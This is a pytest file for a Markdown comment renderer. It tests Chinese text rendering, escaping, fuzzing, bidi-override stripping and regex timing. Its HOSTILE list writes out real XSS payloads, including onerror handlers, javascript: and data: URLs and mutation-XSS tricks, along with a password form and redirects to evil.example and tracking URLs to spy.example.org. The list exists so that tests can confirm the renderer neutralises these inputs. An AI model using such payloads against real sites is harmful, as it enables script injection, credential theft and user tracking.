"""Comments are Markdown; whatever else somebody puts in is shown, never run."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from resource_hub.edge.markdown import MOST, TAGS, markdown


class Reader(HTMLParser):
    """What a browser would find: every tag with its attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(html)
    return reader.tags


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("很好", "<p>很好</p>\n"),
        ("第一行\n第二行", "<p>第一行<br>\n第二行</p>\n"),
        ("**必须**改*一处*", "<p><strong>必须</strong>改<em>一处</em></p>\n"),
        ("- 目标\n- 流程", "<ul>\n<li>目标</li>\n<li>流程</li>\n</ul>\n"),
        ("> 原文\n\n改成这样", "<blockquote>\n<p>原文</p>\n</blockquote>\n<p>改成这样</p>\n"),
        ("~~删去~~", "<p><s>删去</s></p>\n"),
        ("# 不是标题", "<p># 不是标题</p>\n"),
        (
            "[课标](https://example.org/a)",
            '<p><a href="https://example.org/a" rel="nofollow noopener noreferrer">课标</a></p>\n',
        ),
        ("1 < 2 & 3 > 2", "<p>1 &lt; 2 &amp; 3 &gt; 2</p>\n"),
    ],
)
def test_what_is_typed_is_shown_so(typed: str, shown: str) -> None:
    assert markdown(typed) == shown


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "![x](https://spy.example.org/p.png)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example" onmouseover="alert(1))',
    '[x](<https://a.example" style="position:fixed">)',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",  # noqa: E501 - a known trick, as it was found
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "```<script>alert(1)</script>\n<b>x</b>\n```",
    "`<script>alert(1)</script>`",
    "<details open ontoggle=alert(1)>",
    "<p style='background:url(https://spy.example.org)'>x</p>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<table background=https://spy.example.org><tr><td>x</td></tr></table>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "</div></main><h1>Sign in again</h1>",
)


@pytest.mark.parametrize("typed", HOSTILE)
def test_hostile_html_is_shown_and_never_run(typed: str) -> None:
    for tag, attributes in tags_of(markdown(typed)):
        assert tag in TAGS
        assert attributes.keys() <= {"href", "rel"}
        assert re.match(r"https?://|mailto:|[^:]*$", attributes.get("href") or "")


@given(st.text(alphabet="<>/\"'=&#;:()[]!`*_~|\\-\n \tabjsx:0", max_size=200))
def test_no_other_tag_and_no_other_attribute_ever_comes_out(typed: str) -> None:
    for tag, attributes in tags_of(markdown(typed)):
        assert tag in TAGS
        assert attributes.keys() <= ({"href", "rel"} if tag == "a" else set())


def test_a_line_cannot_be_turned_round() -> None:
    assert markdown("同意\u202e绝拒\u202c") == "<p>同意绝拒</p>\n"


@pytest.mark.parametrize("unit", ["[", "*_", "> ", "- ", "`", "<", "![](", "|a", "**a", "\\["])
def test_no_pattern_takes_long(unit: str) -> None:
    typed = (unit * MOST)[:MOST]
    start = time.process_time()
    markdown(typed)
    assert time.process_time() - start < 2


def test_what_is_too_long_to_be_a_comment_is_shown_as_typed() -> None:
    assert markdown("*" * (MOST + 1)) == f"<p>{'*' * (MOST + 1)}</p>"
